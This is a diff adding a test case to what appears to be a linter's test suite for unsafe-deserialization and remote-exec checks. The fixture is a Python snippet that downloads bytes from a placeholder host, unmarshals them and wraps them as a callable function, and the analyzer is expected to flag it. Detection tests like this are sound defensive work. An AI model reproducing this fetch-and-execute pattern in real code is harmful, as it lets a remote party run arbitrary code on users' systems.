@@ -483,4 +483,17 @@ describe('unsafe-deserialization', () => {
                        ^^^^^^^ unsafe-deserialization: information
     `;
   });
+
+  it('leaves byte code to where it is run', () => {
+    checksOf('unsafe-deserialization', 'remote-exec').python`
+      import marshal
+      import types
+
+      import requests
+
+      code = marshal.loads(requests.get("https://example.com/score.bin").content[16:])
+      score = types.FunctionType(code, {}, "score")
+                                 ^^^^ remote-exec
+    `;
+  });
 });
